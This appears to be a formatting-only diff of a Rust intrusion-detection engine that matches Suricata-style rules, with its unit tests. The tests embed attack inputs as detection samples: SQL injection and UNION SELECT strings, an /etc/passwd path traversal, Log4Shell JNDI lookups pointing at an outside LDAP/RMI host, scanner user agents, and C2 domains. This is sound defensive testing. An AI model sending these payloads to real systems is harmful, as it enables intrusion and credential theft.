@@ -20,8 +20,8 @@ use aho_corasick::{AhoCorasick, MatchKind};
 
 use super::RuleError;
 use super::compile::{
-    AppProto, Buffer, Classifications, CompiledRule, ContentMatch, Direction, Item, PcreMatch,
-    RuleProto, Target, compile_rule,
+    AppProto, Buffer, Classifications, CompiledRule, ContentMatch, Direction, Item, PcreMatch, RuleProto, Target,
+    compile_rule,
 };
 use super::parse::{Action, Vars, parse_rules};
 
@@ -163,10 +163,7 @@ pub fn http_header_buffer<'h>(
         if name.eq_ignore_ascii_case(skip) {
             continue;
         }
-        let end = value
-            .iter()
-            .rposition(|c| !matches!(c, b' ' | b'\t'))
-            .map_or(0, |p| p + 1);
+        let end = value.iter().rposition(|c| !matches!(c, b' ' | b'\t')).map_or(0, |p| p + 1);
         out.extend_from_slice(name);
         out.extend_from_slice(b": ");
         out.extend_from_slice(&value[..end]);
@@ -233,9 +230,7 @@ pub struct Detector {
 
 impl std::fmt::Debug for Detector {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        f.debug_struct("Detector")
-            .field("rules", &self.rules.len())
-            .finish()
+        f.debug_struct("Detector").field("rules", &self.rules.len()).finish()
     }
 }
 
@@ -323,9 +318,7 @@ impl DetectorBuilder {
     /// rules (action order pass/drop/reject/alert, then priority, then load order) and builds
     /// the prefilters.
     pub fn build(self) -> (Detector, Vec<RuleError>) {
-        let DetectorBuilder {
-            rules, mut errors, ..
-        } = self;
+        let DetectorBuilder { rules, mut errors, .. } = self;
         let mut keep: HashMap<(u32, u32), usize> = HashMap::new();
         let mut dropped = vec![false; rules.len()];
         for (i, r) in rules.iter().enumerate() {
@@ -335,11 +328,7 @@ impl DetectorBuilder {
                     keep.insert(key, i);
                 }
                 Some(j) => {
-                    let (lose, win) = if r.meta.rev > rules[j].meta.rev {
-                        (j, i)
-                    } else {
-                        (i, j)
-                    };
+                    let (lose, win) = if r.meta.rev > rules[j].meta.rev { (j, i) } else { (i, j) };
                     dropped[lose] = true;
                     keep.insert(key, win);
                     let (l, w) = (&rules[lose], &rules[win]);
@@ -357,11 +346,8 @@ impl DetectorBuilder {
                 }
             }
         }
-        let mut rules: Vec<CompiledRule> = rules
-            .into_iter()
-            .zip(dropped)
-            .filter_map(|(r, d)| (!d).then_some(r))
-            .collect();
+        let mut rules: Vec<CompiledRule> =
+            rules.into_iter().zip(dropped).filter_map(|(r, d)| (!d).then_some(r)).collect();
         rules.sort_by_key(|r| (r.meta.action.order(), r.meta.priority));
         let groups = build_groups(&rules);
         (Detector { rules, groups }, errors)
@@ -392,9 +378,8 @@ fn rule_groups(r: &CompiledRule) -> [bool; GROUPS] {
 fn build_groups(rules: &[CompiledRule]) -> Vec<Group> {
     // per group, per buffer: (lower-cased pattern -> pattern id, patterns, rules per pattern)
     type Table = (HashMap<Vec<u8>, usize>, Vec<Vec<u8>>, Vec<Vec<u32>>);
-    let mut tables: Vec<Vec<Table>> = (0..GROUPS)
-        .map(|_| (0..Buffer::ALL.len()).map(|_| Default::default()).collect())
-        .collect();
+    let mut tables: Vec<Vec<Table>> =
+        (0..GROUPS).map(|_| (0..Buffer::ALL.len()).map(|_| Default::default()).collect()).collect();
     let mut groups: Vec<Group> = (0..GROUPS).map(|_| Group::default()).collect();
     for (idx, r) in rules.iter().enumerate() {
         let idx = idx as u32;
@@ -530,9 +515,7 @@ fn proto_matches(r: &CompiledRule, insp: &Inspection<'_>) -> bool {
     l4 && match (r.app_proto, insp.app_proto) {
         (None, _) => true,
         (Some(_), None) => false,
-        (Some(want), Some(got)) => {
-            want == got || (want == AppProto::Http && got == AppProto::Http2 && !r.http1_only)
-        }
+        (Some(want), Some(got)) => want == got || (want == AppProto::Http && got == AppProto::Http2 && !r.http1_only),
     }
 }
 
@@ -604,11 +587,7 @@ fn run(items: &[Item], i: usize, buf: &[u8], buffer_offset: usize, budget: &mut 
 
 /// "goto match": the item matched with the detection offset at `offset`; inspect the next one.
 fn next(items: &[Item], i: usize, buf: &[u8], offset: usize, budget: &mut u32) -> Outcome {
-    if i + 1 == items.len() {
-        Outcome::Match
-    } else {
-        run(items, i + 1, buf, offset, budget)
-    }
+    if i + 1 == items.len() { Outcome::Match } else { run(items, i + 1, buf, offset, budget) }
 }
 
 fn run_content(
@@ -647,11 +626,7 @@ fn run_content(
         depth = depth.min(len);
         // an empty window can never hold the pattern, but satisfies a negated one
         if offset > depth || depth <= 0 {
-            return if cd.negated {
-                next(items, i, buf, buffer_offset, budget)
-            } else {
-                Outcome::NoMatch
-            };
+            return if cd.negated { next(items, i, buf, buffer_offset, budget) } else { Outcome::NoMatch };
         }
         let (o, d) = (offset as usize, depth as usize);
         let window = &buf[o..d];
@@ -660,8 +635,7 @@ fn run_content(
             if d < buf.len() || window.len() < plen {
                 None
             } else {
-                cd.equals(&window[window.len() - plen..])
-                    .then_some(d - plen)
+                cd.equals(&window[window.len() - plen..]).then_some(d - plen)
             }
         } else if plen > window.len() {
             None
@@ -673,18 +647,10 @@ fn run_content(
                 return next(items, i, buf, buffer_offset, budget);
             }
             // an absolute content not found anywhere: nothing earlier can change that
-            return if relative {
-                Outcome::NoMatch
-            } else {
-                Outcome::Discontinue
-            };
+            return if relative { Outcome::NoMatch } else { Outcome::Discontinue };
         };
         if cd.negated {
-            return if cd.is_single() {
-                Outcome::Discontinue
-            } else {
-                Outcome::NoMatch
-            };
+            return if cd.is_single() { Outcome::Discontinue } else { Outcome::NoMatch };
         }
         let match_offset = start + plen;
         if is_last {
@@ -703,33 +669,14 @@ fn run_content(
     }
 }
 
-fn run_pcre(
-    pe: &PcreMatch,
-    items: &[Item],
-    i: usize,
-    buf: &[u8],
-    buffer_offset: usize,
-    budget: &mut u32,
-) -> Outcome {
-    let base = if pe.relative {
-        buffer_offset.min(buf.len())
-    } else {
-        0
-    };
+fn run_pcre(pe: &PcreMatch, items: &[Item], i: usize, buf: &[u8], buffer_offset: usize, budget: &mut u32) -> Outcome {
+    let base = if pe.relative { buffer_offset.min(buf.len()) } else { 0 };
     let subject = &buf[base..];
     // absolute position after which to look for the next occurrence (0: from the start)
     let mut match_start_offset = 0usize;
     loop {
-        let start = if match_start_offset != 0 {
-            match_start_offset - base
-        } else {
-            0
-        };
-        let m = if start <= subject.len() {
-            pe.regex.find_at(subject, start)
-        } else {
-            None
-        };
+        let start = if match_start_offset != 0 { match_start_offset - base } else { 0 };
+        let m = if start <= subject.len() { pe.regex.find_at(subject, start) } else { None };
         let (offset, restart) = match (m, pe.negated) {
             (Some(m), false) => (base + m.end(), base + m.start() + 1),
             (None, true) => (buffer_offset, 0),
@@ -769,15 +716,7 @@ mod tests {
     fn tcp(payload: &[u8]) -> Inspection<'_> {
         Inspection {
             established: true,
-            ..Inspection::new(
-                Transport::Tcp,
-                CLIENT,
-                40000,
-                SERVER,
-                80,
-                Direction::ToServer,
-                payload,
-            )
+            ..Inspection::new(Transport::Tcp, CLIENT, 40000, SERVER, 80, Direction::ToServer, payload)
         }
     }
 
@@ -802,156 +741,72 @@ mod tests {
 
     #[test]
     fn offset_and_depth() {
-        assert!(payload_match(
-            r#"content:"def"; offset:3; depth:3;"#,
-            b"abcdefgh"
-        ));
+        assert!(payload_match(r#"content:"def"; offset:3; depth:3;"#, b"abcdefgh"));
         assert!(!payload_match(r#"content:"def"; offset:4;"#, b"abcdefgh"));
         assert!(!payload_match(r#"content:"def"; depth:5;"#, b"abcdefgh"));
         assert!(payload_match(r#"content:"def"; depth:6;"#, b"abcdefgh"));
         // depth counts from offset
-        assert!(payload_match(
-            r#"content:"gh"; offset:4; depth:4;"#,
-            b"abcdefgh"
-        ));
-        assert!(!payload_match(
-            r#"content:"gh"; offset:4; depth:3;"#,
-            b"abcdefgh"
-        ));
+        assert!(payload_match(r#"content:"gh"; offset:4; depth:4;"#, b"abcdefgh"));
+        assert!(!payload_match(r#"content:"gh"; offset:4; depth:3;"#, b"abcdefgh"));
     }
 
     #[test]
     fn distance_and_within() {
-        assert!(payload_match(
-            r#"content:"ab"; content:"ef"; distance:2;"#,
-            b"abcdef"
-        ));
-        assert!(!payload_match(
-            r#"content:"ab"; content:"ef"; distance:3;"#,
-            b"abcdef"
-        ));
-        assert!(payload_match(
-            r#"content:"ab"; content:"cd"; within:2;"#,
-            b"abcdef"
-        ));
-        assert!(!payload_match(
-            r#"content:"ab"; content:"de"; within:2;"#,
-            b"abcdef"
-        ));
-        assert!(payload_match(
-            r#"content:"ab"; content:"de"; distance:1; within:2;"#,
-            b"abcdef"
-        ));
+        assert!(payload_match(r#"content:"ab"; content:"ef"; distance:2;"#, b"abcdef"));
+        assert!(!payload_match(r#"content:"ab"; content:"ef"; distance:3;"#, b"abcdef"));
+        assert!(payload_match(r#"content:"ab"; content:"cd"; within:2;"#, b"abcdef"));
+        assert!(!payload_match(r#"content:"ab"; content:"de"; within:2;"#, b"abcdef"));
+        assert!(payload_match(r#"content:"ab"; content:"de"; distance:1; within:2;"#, b"abcdef"));
         // negative distance: overlapping the previous match
-        assert!(payload_match(
-            r#"content:"cd"; content:"bcde"; distance:-3; within:4;"#,
-            b"abcdef"
-        ));
+        assert!(payload_match(r#"content:"cd"; content:"bcde"; distance:-3; within:4;"#, b"abcdef"));
         // relative to the first occurrence fails, the third occurrence works: backtracking
-        assert!(payload_match(
-            r#"content:"a"; content:"b"; distance:0; within:1;"#,
-            b"a_a_ab"
-        ));
+        assert!(payload_match(r#"content:"a"; content:"b"; distance:0; within:1;"#, b"a_a_ab"));
         // three levels of backtracking
         assert!(payload_match(
             r#"content:"x"; content:"y"; distance:0; within:1; content:"z"; distance:0; within:1;"#,
             b"xy_xyq_xyz"
         ));
         // no within on the next content: a later occurrence can't help (Suricata gives up)
-        assert!(!payload_match(
-            r#"content:"a"; content:"b"; distance:2;"#,
-            b"a_b_a"
-        ));
+        assert!(!payload_match(r#"content:"a"; content:"b"; distance:2;"#, b"a_b_a"));
         // a relative content first in the list is relative to the buffer start
-        assert!(payload_match(
-            r#"content:"ab"; distance:0; within:2;"#,
-            b"abc"
-        ));
-        assert!(!payload_match(
-            r#"content:"bc"; distance:0; within:2;"#,
-            b"abc"
-        ));
+        assert!(payload_match(r#"content:"ab"; distance:0; within:2;"#, b"abc"));
+        assert!(!payload_match(r#"content:"bc"; distance:0; within:2;"#, b"abc"));
     }
 
     #[test]
     fn suricata_doc_firefox_example() {
         let opts = r#"content:"User-Agent|3A| Mozilla/5.0 |28|Windows|3B| "; content:"Firefox/3."; distance:0; content:!"Firefox/3.6.13"; distance:-10;"#;
-        assert!(payload_match(
-            opts,
-            b"User-Agent: Mozilla/5.0 (Windows; U) Gecko Firefox/3.6.12\r\n"
-        ));
-        assert!(!payload_match(
-            opts,
-            b"User-Agent: Mozilla/5.0 (Windows; U) Gecko Firefox/3.6.13\r\n"
-        ));
+        assert!(payload_match(opts, b"User-Agent: Mozilla/5.0 (Windows; U) Gecko Firefox/3.6.12\r\n"));
+        assert!(!payload_match(opts, b"User-Agent: Mozilla/5.0 (Windows; U) Gecko Firefox/3.6.13\r\n"));
     }
 
     #[test]
     fn nocase_negation_startswith_endswith() {
         assert!(payload_match(r#"content:"SELECT"; nocase;"#, b"x select y"));
         assert!(!payload_match(r#"content:"SELECT";"#, b"x select y"));
-        assert!(payload_match(
-            r#"content:"|53 45|LECT"; nocase;"#,
-            b"sElEcT"
-        ));
+        assert!(payload_match(r#"content:"|53 45|LECT"; nocase;"#, b"sElEcT"));
         assert!(payload_match(r#"content:!"evil";"#, b"good"));
         assert!(!payload_match(r#"content:!"evil";"#, b"so evil"));
-        assert!(payload_match(
-            r#"content:"GET "; startswith;"#,
-            b"GET / HTTP/1.1"
-        ));
-        assert!(!payload_match(
-            r#"content:"GET "; startswith;"#,
-            b" GET / HTTP/1.1"
-        ));
-        assert!(payload_match(
-            r#"content:".php"; endswith;"#,
-            b"/a.php/b.php"
-        ));
+        assert!(payload_match(r#"content:"GET "; startswith;"#, b"GET / HTTP/1.1"));
+        assert!(!payload_match(r#"content:"GET "; startswith;"#, b" GET / HTTP/1.1"));
+        assert!(payload_match(r#"content:".php"; endswith;"#, b"/a.php/b.php"));
         assert!(!payload_match(r#"content:".php"; endswith;"#, b"/a.php?x"));
-        assert!(payload_match(
-            r#"content:"/a"; startswith; content:".php"; endswith;"#,
-            b"/a.php"
-        ));
+        assert!(payload_match(r#"content:"/a"; startswith; content:".php"; endswith;"#, b"/a.php"));
         assert!(payload_match(r#"content:!".php"; endswith;"#, b"/a.php?x"));
-        assert!(!payload_match(
-            r#"content:!".php"; endswith;"#,
-            b"/x.php/a.php"
-        ));
-        assert!(payload_match(
-            r#"content:"/"; content:"b"; distance:0; endswith;"#,
-            b"/a/b"
-        ));
+        assert!(!payload_match(r#"content:!".php"; endswith;"#, b"/x.php/a.php"));
+        assert!(payload_match(r#"content:"/"; content:"b"; distance:0; endswith;"#, b"/a/b"));
         // negated relative content: absent right after the match
-        assert!(payload_match(
-            r#"content:"user="; content:!"admin"; within:5;"#,
-            b"user=guest&x=admin"
-        ));
-        assert!(!payload_match(
-            r#"content:"user="; content:!"admin"; within:5;"#,
-            b"user=admin"
-        ));
+        assert!(payload_match(r#"content:"user="; content:!"admin"; within:5;"#, b"user=guest&x=admin"));
+        assert!(!payload_match(r#"content:"user="; content:!"admin"; within:5;"#, b"user=admin"));
         // a negated content with positive ones around it
-        assert!(payload_match(
-            r#"content:"a"; content:!"zz"; content:"b";"#,
-            b"a b"
-        ));
-        assert!(!payload_match(
-            r#"content:"a"; content:!"zz"; content:"b";"#,
-            b"a zz b"
-        ));
+        assert!(payload_match(r#"content:"a"; content:!"zz"; content:"b";"#, b"a b"));
+        assert!(!payload_match(r#"content:"a"; content:!"zz"; content:"b";"#, b"a zz b"));
     }
 
     #[test]
     fn pcre_flags_and_relative() {
-        assert!(payload_match(
-            r#"pcre:"/un.on\s+select/i";"#,
-            b"x UNION  SELECT y"
-        ));
-        assert!(!payload_match(
-            r#"pcre:"/un.on\s+select/";"#,
-            b"x UNION  SELECT y"
-        ));
+        assert!(payload_match(r#"pcre:"/un.on\s+select/i";"#, b"x UNION  SELECT y"));
+        assert!(!payload_match(r#"pcre:"/un.on\s+select/";"#, b"x UNION  SELECT y"));
         assert!(payload_match(r#"pcre:"/^b$/m";"#, b"a\nb\nc"));
         assert!(!payload_match(r#"pcre:"/^b$/";"#, b"a\nb\nc"));
         assert!(payload_match(r#"pcre:"/a.c/s";"#, b"a\nc"));
@@ -961,28 +816,13 @@ mod tests {
         assert!(payload_match(r#"pcre:!"/evil/";"#, b"good"));
         assert!(!payload_match(r#"pcre:!"/evil/";"#, b"evil"));
         // R: anchored at the end of the previous match
-        assert!(payload_match(
-            r#"content:"id="; pcre:"/^\d+&/R";"#,
-            b"x=1&id=42&y"
-        ));
-        assert!(!payload_match(
-            r#"content:"id="; pcre:"/^\d+&/R";"#,
-            b"id=x&id2=42&"
-        ));
+        assert!(payload_match(r#"content:"id="; pcre:"/^\d+&/R";"#, b"x=1&id=42&y"));
+        assert!(!payload_match(r#"content:"id="; pcre:"/^\d+&/R";"#, b"id=x&id2=42&"));
         // R with a later occurrence of the content: tried again (pcre R sets within_next)
-        assert!(payload_match(
-            r#"content:"id="; pcre:"/^\d/R";"#,
-            b"id=x id=7"
-        ));
+        assert!(payload_match(r#"content:"id="; pcre:"/^\d/R";"#, b"id=x id=7"));
         // a content relative to a pcre match
-        assert!(payload_match(
-            r#"pcre:"/user=\w+/"; content:"&pw="; within:4;"#,
-            b"user=bob&pw=1"
-        ));
-        assert!(payload_match(
-            r#"content:"a"; pcre:"/b/R"; content:"c"; distance:0; within:1;"#,
-            b"a b d a bc"
-        ));
+        assert!(payload_match(r#"pcre:"/user=\w+/"; content:"&pw="; within:4;"#, b"user=bob&pw=1"));
+        assert!(payload_match(r#"content:"a"; pcre:"/b/R"; content:"c"; distance:0; within:1;"#, b"a b d a bc"));
         // pcre escapes as Suricata writes them inside a rule
         assert!(payload_match(r#"pcre:"/a\;b\x22c/";"#, b"a;b\"c"));
     }
@@ -1014,17 +854,10 @@ mod tests {
         );
         let response = http_header_buffer(
             Direction::ToClient,
-            [
-                (&b"Set-Cookie"[..], &b"a=1"[..]),
-                (b"Cookie", b"b=2"),
-                (b"Server", b"x"),
-            ],
+            [(&b"Set-Cookie"[..], &b"a=1"[..]), (b"Cookie", b"b=2"), (b"Server", b"x")],
         );
         assert_eq!(response, b"Cookie: b=2\r\nServer: x\r\n");
-        assert_eq!(
-            headers,
-            b"Host: www.BAD.example\r\nUser-Agent: SQLMap/1.7\r\nX-Evil: 1\r\n"
-        );
+        assert_eq!(headers, b"Host: www.BAD.example\r\nUser-Agent: SQLMap/1.7\r\nX-Evil: 1\r\n");
         let insp = Inspection {
             app_proto: Some(AppProto::Http),
             http_uri: Some(b"/admin/login.php"),
@@ -1038,22 +871,10 @@ mod tests {
         };
         assert_eq!(sids(&d, &insp), [1, 2, 3, 4, 5, 6, 7, 9, 10]);
         // the URI only in the payload: only the payload rule
-        let insp2 = Inspection {
-            app_proto: Some(AppProto::Http),
-            ..tcp(b"GET /admin HTTP/1.1\r\n")
-        };
+        let insp2 = Inspection { app_proto: Some(AppProto::Http), ..tcp(b"GET /admin HTTP/1.1\r\n") };
         assert_eq!(sids(&d, &insp2), [3]);
         // app-layer rules need the protocol
-        assert_eq!(
-            sids(
-                &d,
-                &Inspection {
-                    app_proto: None,
-                    ..insp
-                }
-            ),
-            Vec::<u32>::new()
-        );
+        assert_eq!(sids(&d, &Inspection { app_proto: None, ..insp }), Vec::<u32>::new());
         let resp = Inspection {
             app_proto: Some(AppProto::Http),
             http_stat_code: Some(b"500"),
@@ -1062,35 +883,14 @@ mod tests {
         };
         assert_eq!(sids(&d, &resp), [8]);
         // a to_server-only buffer is not inspected in the response direction
-        assert_eq!(
-            sids(
-                &d,
-                &Inspection {
-                    http_uri: Some(b"/admin"),
-                    ..resp
-                }
-            ),
-            [8]
-        );
+        assert_eq!(sids(&d, &Inspection { http_uri: Some(b"/admin"), ..resp }), [8]);
         let dns = Inspection {
             app_proto: Some(AppProto::Dns),
             dns_query: Some(b"www.evil-c2.example"),
-            ..Inspection::new(
-                Transport::Udp,
-                CLIENT,
-                5353,
-                SERVER,
-                53,
-                Direction::ToServer,
-                b"",
-            )
+            ..Inspection::new(Transport::Udp, CLIENT, 5353, SERVER, 53, Direction::ToServer, b"")
         };
         assert_eq!(sids(&d, &dns), [11]);
-        let tls = Inspection {
-            app_proto: Some(AppProto::Tls),
-            tls_sni: Some(b"evil.example"),
-            ..tcp(b"\x16\x03\x01")
-        };
+        let tls = Inspection { app_proto: Some(AppProto::Tls), tls_sni: Some(b"evil.example"), ..tcp(b"\x16\x03\x01") };
         assert_eq!(sids(&d, &tls), [12]);
     }
 
@@ -1117,30 +917,9 @@ mod tests {
             ..req
         };
         assert_eq!(sids(&d, &resp), [2, 4, 5, 7, 8]);
-        assert_eq!(
-            sids(
-                &d,
-                &Inspection {
-                    established: false,
-                    ..req
-                }
-            ),
-            [3, 4, 7]
-        );
-        assert_eq!(
-            sids(
-                &d,
-                &Inspection {
-                    dst_port: 8080,
-                    ..req
-                }
-            ),
-            [4, 5, 7]
-        );
-        let udp = Inspection {
-            proto: Transport::Udp,
-            ..req
-        };
+        assert_eq!(sids(&d, &Inspection { established: false, ..req }), [3, 4, 7]);
+        assert_eq!(sids(&d, &Inspection { dst_port: 8080, ..req }), [4, 5, 7]);
+        let udp = Inspection { proto: Transport::Udp, ..req };
         assert_eq!(sids(&d, &udp), [6, 7]);
     }
 
@@ -1154,10 +933,7 @@ mod tests {
         ));
         assert_eq!(sids(&d, &tcp(b"hello world")), [1, 3]);
         assert_eq!(sids(&d, &tcp(b"")), [2]);
-        let hits = d.inspect(&Inspection {
-            dst_port: 22,
-            ..tcp(b"hello world")
-        });
+        let hits = d.inspect(&Inspection { dst_port: 22, ..tcp(b"hello world") });
         assert_eq!(hits.len(), 1);
         assert_eq!((hits[0].sid, hits[0].action), (4, Action::Pass));
     }
@@ -1184,35 +960,18 @@ mod tests {
         let (d, errors) = Detector::from_rules(text, "dup.rules", &Vars::default());
         assert_eq!(d.len(), 1);
         assert_eq!(errors.len(), 1);
-        assert!(
-            errors[0].reason.contains("duplicate sid 9000001"),
-            "{}",
-            errors[0]
-        );
-        assert_eq!(
-            (errors[0].line, errors[0].keyword.as_deref()),
-            (1, Some("sid"))
-        );
-        let insp = Inspection {
-            app_proto: Some(AppProto::Http),
-            http_uri: Some(b"/x"),
-            ..tcp(b"")
-        };
+        assert!(errors[0].reason.contains("duplicate sid 9000001"), "{}", errors[0]);
+        assert_eq!((errors[0].line, errors[0].keyword.as_deref()), (1, Some("sid")));
+        let insp = Inspection { app_proto: Some(AppProto::Http), http_uri: Some(b"/x"), ..tcp(b"") };
         let hits = d.inspect(&insp);
-        assert_eq!(
-            (hits[0].rev, &*hits[0].msg, hits[0].action),
-            (2, "newer", Action::Drop)
-        );
+        assert_eq!((hits[0].rev, &*hits[0].msg, hits[0].action), (2, "newer", Action::Drop));
         let (d, _) = Detector::from_rules(
             &text.lines().next().unwrap().replace("9000001", "9000002"),
             "a.rules",
             &Vars::default(),
         );
         let h = &d.inspect(&insp)[0];
-        assert_eq!(
-            (h.sid, h.gid, h.rev, h.severity, h.target),
-            (9000002, 1, 1, 2, Some(Target::DestIp))
-        );
+        assert_eq!((h.sid, h.gid, h.rev, h.severity, h.target), (9000002, 1, 1, 2, Some(Target::DestIp)));
         assert_eq!(h.classtype.as_deref(), Some("web-application-attack"));
         assert_eq!(h.metadata["created_at"], ["2026_11_27"]);
     }
@@ -1229,14 +988,8 @@ mod tests {
         let (d, errors) = Detector::from_rules(text, "mixed.rules", &Vars::default());
         assert_eq!(d.len(), 1);
         let e = &errors[0];
-        assert_eq!(
-            (e.file.as_str(), e.line, e.column, e.keyword.as_deref()),
-            ("mixed.rules", 2, 42, Some("flowbits"))
-        );
-        assert_eq!(
-            e.to_string(),
-            "mixed.rules:2:42: flowbits: keyword not supported yet"
-        );
+        assert_eq!((e.file.as_str(), e.line, e.column, e.keyword.as_deref()), ("mixed.rules", 2, 42, Some("flowbits")));
+        assert_eq!(e.to_string(), "mixed.rules:2:42: flowbits: keyword not supported yet");
         assert_eq!(errors[1].keyword.as_deref(), Some("byte_test"));
         let stats = rule_stats(&errors);
         assert_eq!((stats.rejected_rules, stats.errors), (4, 5));
@@ -1249,10 +1002,7 @@ mod tests {
 
     #[test]
     fn recursion_limit_bounds_pathological_rules() {
-        let opts = (0..12)
-            .map(|_| r#"content:"a"; distance:0; within:50;"#)
-            .collect::<Vec<_>>()
-            .join(" ");
+        let opts = (0..12).map(|_| r#"content:"a"; distance:0; within:50;"#).collect::<Vec<_>>().join(" ");
         let payload = vec![b'a'; 400];
         let mut tail = payload.clone();
         tail.push(b'b');
@@ -1272,10 +1022,7 @@ mod tests {
         assert!(d.len() >= 6);
         for r in d.rules() {
             assert!(r.meta.sid >= 9_000_000, "{}", r.meta.sid);
-            assert_eq!(
-                r.meta.metadata.get("created_at").map(|v| v[0].as_str()),
-                Some("2026_11_27")
-            );
+            assert_eq!(r.meta.metadata.get("created_at").map(|v| v[0].as_str()), Some("2026_11_27"));
         }
         // the addresses of `soc run --demo`: an external attacker, the ministry web server
         let attacker: IpAddr = "203.0.113.66".parse().unwrap();
@@ -1290,84 +1037,28 @@ mod tests {
             http_host: Some(b"portal.moha.gov.vn"),
             http_user_agent: Some(ua),
             http_headers: Some(headers),
-            ..Inspection::new(
-                Transport::Tcp,
-                attacker,
-                51000,
-                web,
-                80,
-                Direction::ToServer,
-                b"",
-            )
+            ..Inspection::new(Transport::Tcp, attacker, 51000, web, 80, Direction::ToServer, b"")
         };
-        let fired = |insp: &Inspection<'_>| {
-            d.inspect(insp)
-                .iter()
-                .map(|h| h.msg.to_string())
-                .collect::<Vec<_>>()
-                .join(" | ")
-        };
-        let normal = http(
-            b"/index.html",
-            b"Mozilla/5.0",
-            b"Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\n",
-        );
+        let fired =
+            |insp: &Inspection<'_>| d.inspect(insp).iter().map(|h| h.msg.to_string()).collect::<Vec<_>>().join(" | ");
+        let normal = http(b"/index.html", b"Mozilla/5.0", b"Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\n");
         assert_eq!(fired(&normal), "");
-        let sqli = http(
-            b"/item.php?id=1' OR '1'='1",
-            b"Mozilla/5.0",
-            b"Host: shop.example\r\n",
-        );
+        let sqli = http(b"/item.php?id=1' OR '1'='1", b"Mozilla/5.0", b"Host: shop.example\r\n");
         assert!(fired(&sqli).contains("SQL"), "{}", fired(&sqli));
-        let sqli_encoded = http(
-            b"/van-ban?id=1'%20OR%20'1'='1",
-            b"Mozilla/5.0",
-            b"Host: shop.example\r\n",
-        );
-        assert!(
-            fired(&sqli_encoded).contains("SQL"),
-            "{}",
-            fired(&sqli_encoded)
-        );
-        let union = http(
-            b"/item.php?id=1 UNION SELECT user,pass FROM users",
-            b"Mozilla/5.0",
-            b"Host: shop.example\r\n",
-        );
+        let sqli_encoded = http(b"/van-ban?id=1'%20OR%20'1'='1", b"Mozilla/5.0", b"Host: shop.example\r\n");
+        assert!(fired(&sqli_encoded).contains("SQL"), "{}", fired(&sqli_encoded));
+        let union =
+            http(b"/item.php?id=1 UNION SELECT user,pass FROM users", b"Mozilla/5.0", b"Host: shop.example\r\n");
         assert!(fired(&union).contains("SQL"), "{}", fired(&union));
-        let trav = http(
-            b"/download.php?file=../../../../etc/passwd",
-            b"Mozilla/5.0",
-            b"Host: shop.example\r\n",
-        );
+        let trav = http(b"/download.php?file=../../../../etc/passwd", b"Mozilla/5.0", b"Host: shop.example\r\n");
         assert!(fired(&trav).contains("traversal"), "{}", fired(&trav));
-        let jndi_ua = http(
-            b"/",
-            b"${jndi:ldap://203.0.113.9/a}",
-            b"User-Agent: ${jndi:ldap://203.0.113.9/a}\r\n",
-        );
+        let jndi_ua = http(b"/", b"${jndi:ldap://203.0.113.9/a}", b"User-Agent: ${jndi:ldap://203.0.113.9/a}\r\n");
         assert!(fired(&jndi_ua).contains("Log4Shell"), "{}", fired(&jndi_ua));
-        let jndi_uri = http(
-            b"/?x=${jndi:rmi://203.0.113.9/a}",
-            b"curl/8",
-            b"Host: shop.example\r\n",
-        );
-        assert!(
-            fired(&jndi_uri).contains("Log4Shell"),
-            "{}",
-            fired(&jndi_uri)
-        );
-        let scanner = http(
-            b"/",
-            b"sqlmap/1.7.2#stable (https://sqlmap.org)",
-            b"Host: shop.example\r\n",
-        );
+        let jndi_uri = http(b"/?x=${jndi:rmi://203.0.113.9/a}", b"curl/8", b"Host: shop.example\r\n");
+        assert!(fired(&jndi_uri).contains("Log4Shell"), "{}", fired(&jndi_uri));
+        let scanner = http(b"/", b"sqlmap/1.7.2#stable (https://sqlmap.org)", b"Host: shop.example\r\n");
         assert!(fired(&scanner).contains("scanner"), "{}", fired(&scanner));
-        let nikto = http(
-            b"/",
-            b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
-            b"Host: shop.example\r\n",
-        );
+        let nikto = http(b"/", b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", b"Host: shop.example\r\n");
         assert!(fired(&nikto).contains("scanner"), "{}", fired(&nikto));
         let dns = Inspection {
             app_proto: Some(AppProto::Dns),
@@ -1383,49 +1074,17 @@ mod tests {
             )
         };
         assert!(fired(&dns).contains("DNS"), "{}", fired(&dns));
-        assert!(
-            fired(&Inspection {
-                dns_query: Some(b"beacon.evil-c2.example"),
-                ..dns
-            })
-            .contains("DNS")
-        );
-        assert_eq!(
-            fired(&Inspection {
-                dns_query: Some(b"www.example.com"),
-                ..dns
-            }),
-            ""
-        );
-        assert_eq!(
-            fired(&Inspection {
-                dns_query: Some(b"notevil-c2.example"),
-                ..dns
-            }),
-            ""
-        );
+        assert!(fired(&Inspection { dns_query: Some(b"beacon.evil-c2.example"), ..dns }).contains("DNS"));
+        assert_eq!(fired(&Inspection { dns_query: Some(b"www.example.com"), ..dns }), "");
+        assert_eq!(fired(&Inspection { dns_query: Some(b"notevil-c2.example"), ..dns }), "");
         let tls = Inspection {
             app_proto: Some(AppProto::Tls),
             established: true,
             tls_sni: Some(b"evil-c2.example"),
-            ..Inspection::new(
-                Transport::Tcp,
-                victim,
-                49000,
-                c2,
-                443,
-                Direction::ToServer,
-                b"\x16\x03\x01",
-            )
+            ..Inspection::new(Transport::Tcp, victim, 49000, c2, 443, Direction::ToServer, b"\x16\x03\x01")
         };
         assert!(fired(&tls).contains("TLS"), "{}", fired(&tls));
-        assert_eq!(
-            fired(&Inspection {
-                tls_sni: Some(b"www.google.com"),
-                ..tls
-            }),
-            ""
-        );
+        assert_eq!(fired(&Inspection { tls_sni: Some(b"www.google.com"), ..tls }), "");
     }
 
     /// Loads all of ET Open (extracted from the shared archive into a temporary directory) and
@@ -1435,33 +1094,19 @@ mod tests {
         let archive = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
             .join("../../shared/corpora/et-open/et-open-rules.tar.xz");
         if !archive.exists() {
-            eprintln!(
-                "SKIPPED: {} not found; ET Open load not checked",
-                archive.display()
-            );
+            eprintln!("SKIPPED: {} not found; ET Open load not checked", archive.display());
             return;
         }
         let dir = std::env::temp_dir().join(format!(
             "soc-detect-et-{}-{}",
             std::process::id(),
-            std::time::SystemTime::now()
-                .duration_since(std::time::UNIX_EPOCH)
-                .map(|d| d.as_nanos())
-                .unwrap_or(0)
+            std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0)
         ));
         std::fs::create_dir_all(&dir).unwrap();
